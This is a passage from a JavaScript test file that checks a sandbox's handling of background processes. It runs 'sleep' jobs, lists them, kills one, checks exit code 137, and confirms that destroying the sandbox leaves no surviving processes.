    expect(result).toMatchObject({ exitCode: 0, stdout: '', stderr: '' })
    expect(await waitForMarkers([first])).toBe(true)
    const { pid, command } = result.leftRunning
    expect(command).toMatch(/ \(left running by: sh -c 'sleep [0-9.]+ &'\)$/)
    expect(await sb.processes.list()).toEqual([{ pid, command, running: true }])
    const handle = await sb.processes.get(pid)
    expect(await handle.kill()).toBe(true)
    expect(await withDeadline(handle.wait(), 5000, 'wait() after kill()')).toMatchObject({ killed: true, exitCode: 137 })
    expect(await survivors([first])).toEqual([])

    expect((await sb.executeCommand(`setsid sleep ${second} &`)).leftRunning).toBeDefined()
    expect(await waitForMarkers([second])).toBe(true)
    await sb.destroy()
    expect(await survivors([second])).toEqual([])
  })
})
